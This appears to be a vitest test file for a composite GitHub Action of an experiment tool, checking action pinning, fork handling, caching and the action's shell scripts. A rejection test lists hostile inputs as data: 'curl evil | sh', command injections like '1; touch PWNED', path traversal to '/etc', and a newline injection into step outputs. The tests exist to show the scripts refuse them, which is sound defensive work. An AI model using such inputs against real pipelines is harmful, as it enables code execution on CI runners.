// The GitHub Action of action/: its form, and its shell steps as the runner would start them, with the sample experiment. `npx`, `npm`
// and `gh` are the only things that are not there.
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { sample } from '../rig/cli.ts';
import { ROOT, writeFiles } from '../rig/files.ts';
import { CLI } from '../rig/program.ts';
import { tempFolder } from '../rig/temp.ts';

type Step = {
  readonly name: string;
  readonly run?: string;
  readonly uses?: string;
  readonly if?: string;
  readonly shell?: string;
  readonly with?: { readonly [name: string]: string };
  readonly env?: { readonly [name: string]: string };
};

const FOLDER = path.join(ROOT, 'action');
const TEXT = readFileSync(path.join(FOLDER, 'action.yml'), 'utf8');
const action = parse(TEXT) as {
  readonly inputs: { readonly [name: string]: { readonly description: string; readonly default?: string } };
  readonly outputs: { readonly [name: string]: { readonly value: string } };
  readonly runs: { readonly using: string; readonly steps: readonly Step[] };
};
const { steps } = action.runs;
const SCRIPTS = ['inputs.sh', 'restore-artifact.sh', 'run.sh', 'comment.sh'];

describe('action.yml', () => {
  it('is composite, and puts nothing of an event or an input into a script', () => {
    expect(action.runs.using).toBe('composite');
    for (const { name, run, shell } of steps.filter((step) => step.run !== undefined)) {
      expect([name, shell]).toEqual([name, 'bash']);
      expect(run, name).not.toContain('${{');
    }
    for (const script of SCRIPTS)
      expect(readFileSync(path.join(FOLDER, script), 'utf8')).not.toContain('${{');
  });

  it('pins each action of others to a commit, with its version beside it', () => {
    const uses = [...TEXT.matchAll(/uses: (.*)$/gm)].map(([, one]) => one!);
    expect(uses.length).toBeGreaterThan(3);
    for (const one of uses) expect(one).toMatch(/^actions\/[\w/-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
  });

  it('describes every input, reads each, and knows all that it reads', () => {
    const read = new Set([...TEXT.matchAll(/inputs\.([\w-]+)/g)].map(([, name]) => name!));
    const stepIds = new Set(['inputs', 'run']);
    const own = [...read].filter((name) => !['outputs', 'sh'].includes(name));
    expect(own.toSorted()).toEqual(Object.keys(action.inputs).toSorted());
    for (const { description } of Object.values(action.inputs))
      expect(description.length).toBeGreaterThan(10);
    for (const [, id] of TEXT.matchAll(/steps\.(\w+)\./g)) expect(stepIds).toContain(id);
  });

  it('keeps no store of a fork, and saves what was paid for whatever came of it', () => {
    const keeping = steps.filter(({ name }) => name.startsWith('Keep the store'));
    expect(keeping).toHaveLength(2);
    for (const step of keeping) {
      expect(step.if).toMatch(/^always\(\) && /);
      expect(step.if).toContain("steps.inputs.outputs.is-fork == 'false'");
      // A part of the cells is no store to begin with.
      expect(step.if).toContain("inputs.shard == ''");
    }
    const handing = steps.find(({ name }) => name === 'Hand over what the shard drew')!;
    expect(handing.if).toBe("always() && inputs.shard != '' && steps.inputs.outputs.is-fork == 'false'");
    // Restored from its own ref and from the trusted branch, from nowhere else.
    const restored = steps.find(({ uses }) => uses?.startsWith('actions/cache/restore'))!;
    expect(restored.with!['restore-keys']!.trim().split(/\s*\n\s*/)).toEqual([
      ...['${{ steps.inputs.outputs.own }}', '${{ steps.inputs.outputs.trusted }}'],
    ]);
  });

  it('says how the run ended only when all of it is kept and told', () => {
    expect(steps.at(-1)!.name).toBe('Say how it ended');
    expect(steps.findIndex(({ name }) => name === 'Run')).toBeLessThan(
      steps.findIndex(({ name }) => name.startsWith('Keep the store')),
    );
  });

  it('is documented input by input', () => {
    const page = readFileSync(path.join(ROOT, 'docs/ci.md'), 'utf8');
    for (const name of Object.keys(action.inputs)) expect(page, name).toContain(`\`${name}\``);
  });
});

type Job = {
  readonly folder: string;
  outputs(): { readonly [name: string]: string };
  step(
    script: string,
    env: { readonly [name: string]: string },
  ): { readonly status: number | null; readonly said: string };
};

const INPUTS = {
  ...{ EVENT: 'pull_request', REF: 'refs/pull/7/merge', HEAD_REPOSITORY: 'us/repo', FOLDER: '.' },
  ...{ BUDGET_USD: '1', INSTALL: 'npm-ci', STORE: 'cache', TRUSTED_BRANCH: 'main' },
  ...{ SHARD: '', MERGE: '' },
};

/** A checkout, and a runner as far as scripts can see it. */
function job(): Job {
  const folder = tempFolder();
  const bin = path.join(folder, 'runner/bin');
  mkdirSync(bin, { recursive: true });
  const program = (name: string, text: string): void => {
    writeFileSync(path.join(bin, name), `#!/bin/sh\n${text}\n`);
    chmodSync(path.join(bin, name), 0o755);
  };
  program(
    'npx',
    `test "$1" = --no-install && test "$2" = expgraph || exit 99\nshift 2\nexec "${process.execPath}" "${CLI}" "$@"`,
  );
  program(
    'gh',
    `printf '%s\\n' "$@" >> "${folder}/runner/gh"\ncat "${folder}/runner/answer" 2>/dev/null || true`,
  );
  const output = path.join(folder, 'runner/output');
  writeFileSync(output, '');
  const work = path.join(folder, 'work');
  mkdirSync(work);
  return {
    folder: work,
    outputs: () =>
      Object.fromEntries(
        readFileSync(output, 'utf8')
          .trim()
          .split('\n')
          .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
      ),
    step(script, env) {
      const { status, stdout, stderr } = spawnSync('bash', [path.join(FOLDER, script)], {
        cwd: work,
        env: {
          ...{ PATH: `${bin}:${process.env.PATH}`, HOME: folder, CI: 'true', GITHUB_ACTIONS: 'true' },
          ...{
            GITHUB_OUTPUT: output,
            GITHUB_REPOSITORY: 'us/repo',
            GITHUB_RUN_ID: '11',
            GITHUB_RUN_ATTEMPT: '2',
          },
          ...{ GITHUB_WORKFLOW_REF: 'us/repo/.github/workflows/evals.yml@refs/pull/7/merge' },
          ...{ GITHUB_WORKSPACE: work, RUNNER_TEMP: path.join(folder, 'runner') },
          ...env,
        },
        encoding: 'utf8',
      });
      return { status, said: stdout + stderr };
    },
  };
}

describe('the steps of the action', () => {
  it('name caches by folder and ref, and tell a fork', () => {
    const { step, outputs } = job();
    expect(step('inputs.sh', INPUTS)).toMatchObject({ status: 0 });
    expect(outputs()).toEqual({
      'is-fork': 'false',
      key: 'expgraph-.-refs/pull/7/merge-11-2',
      own: 'expgraph-.-refs/pull/7/merge-',
      trusted: 'expgraph-.-refs/heads/main-',
      artifact: 'expgraph-store-.',
      shard: 'expgraph-shard-.',
      reports: 'expgraph-report-.',
    });
    const fork = job();
    fork.step('inputs.sh', { ...INPUTS, HEAD_REPOSITORY: 'them/repo' });
    expect(fork.outputs()['is-fork']).toBe('true');
    const part = job();
    part.step('inputs.sh', { ...INPUTS, SHARD: '2/4' });
    expect(part.outputs()).toMatchObject({
      ...{ shard: 'expgraph-shard-.-2-of-4', reports: 'expgraph-report-.-2-of-4' },
    });
  });

  it.each([
    ['EVENT', 'pull_request_target'],
    ['EVENT', 'workflow_run'],
    ['STORE', 'disk'],
    ['INSTALL', 'curl evil | sh'],
    ['BUDGET_USD', '1; touch PWNED'],
    ['SHARD', '2'],
    ['SHARD', '1/2; touch PWNED'],
    ['MERGE', '../elsewhere'],
    ['MERGE', '/etc'],
    ['FOLDER', '../elsewhere'],
    ['FOLDER', '/etc'],
    ['FOLDER', 'nowhere'],
    ['TRUSTED_BRANCH', 'main\nown=expgraph-evil'],
  ])('refuse %s %j before anything is done', (name, value) => {
    const { step, outputs, folder } = job();
    const { status, said } = step('inputs.sh', { ...INPUTS, [name]: value });
    expect([status, said.startsWith('::error title=expgraph::')]).toEqual([2, true]);
    expect([outputs().key, existsSync(path.join(folder, 'PWNED'))]).toEqual([undefined, false]);
  });

  it('run within the budget, write JUnit and a report, and tell the exit code', async () => {
    const { folder, step, outputs } = job();
    await sample(folder, 'latency_ms: 0, latency_spread: 0');
    const run = step('run.sh', {
      ...{ FOLDER: '.', MANIFEST: '', BUDGET_USD: '1', IS_FORK: 'false', SHARD: '', MERGE: '' },
      ARGUMENTS: '--scenario\nambiguous:*\n--variant\nbaseline; touch PWNED\n',
    });
    // Arguments are words and no script: there is no variant of that name, which is a mistake.
    expect([run.status, outputs()['exit-code'], existsSync(path.join(folder, 'PWNED'))]).toEqual([
      0,
      '2',
      false,
    ]);
    const good = step('run.sh', {
      ...{ FOLDER: '.', MANIFEST: 'experiment.yaml', BUDGET_USD: '', IS_FORK: 'false', SHARD: '', MERGE: '' },
      ARGUMENTS: '--scenario\nambiguous:*',
    });
    expect([good.status, outputs()['exit-code']], good.said).toEqual([0, '0']);
    expect(readFileSync(outputs().junit!, 'utf8')).toContain('<testsuite');
    expect(readFileSync(outputs().report!, 'utf8')).toMatch(/^#|<!--/);
  });

  it('ask nobody where the code is of a fork', async () => {
    const { folder, step, outputs } = job();
    await sample(folder);
    const { said } = step('run.sh', {
      ...{ FOLDER: '.', MANIFEST: '', BUDGET_USD: '1', IS_FORK: 'true', SHARD: '', MERGE: '' },
      ARGUMENTS: '',
    });
    expect(outputs()['exit-code']).toBe('1');
    expect(said).toContain('120 tasks: 0 executed, 0 cached, 0 failed, 120 missing');
  });

  it('comment by number, and on nothing that is no number', () => {
    const { folder, step } = job();
    writeFileSync(path.join(folder, 'report.md'), 'x');
    expect(step('comment.sh', { PR: '7', REPORT: 'report.md' }).status).toBe(0);
    expect(step('comment.sh', { PR: '--help', REPORT: 'report.md' }).status).toBe(0);
    const asked = readFileSync(path.join(folder, '../runner/gh'), 'utf8').trim().split('\n');
    expect(asked).toEqual([
      ...['pr', 'comment', '7', '--repo', 'us/repo', '--body-file', 'report.md'],
      ...['--edit-last', '--create-if-none'],
    ]);
  });

  it('take an artifact of a push to the trusted branch, and go on where there is none', () => {
    const { folder, step } = job();
    const env = { FOLDER: '.', NAME: 'expgraph-store-.', TRUSTED_BRANCH: 'main' };
    expect(step('restore-artifact.sh', env)).toMatchObject({
      status: 0,
      said: 'no successful run on main has left a store yet\n',
    });
    writeFiles(path.join(folder, '../runner'), { answer: '42\n' });
    expect(step('restore-artifact.sh', env).status).toBe(0);
    const asked = readFileSync(path.join(folder, '../runner/gh'), 'utf8');
    expect(asked).toContain('--workflow\nevals.yml\n--branch\nmain\n--event\npush\n--status\nsuccess\n');
    expect(asked).toContain('run\ndownload\n42\n--repo\nus/repo\n--name\nexpgraph-store-.\n');
  });
});

const hasShellcheck = spawnSync('shellcheck', ['--version']).status === 0;
it.skipIf(!hasShellcheck)('scripts are what shellcheck wants (left out where it is not installed)', () => {
  execFileSync('shellcheck', SCRIPTS, { cwd: FOLDER });
});
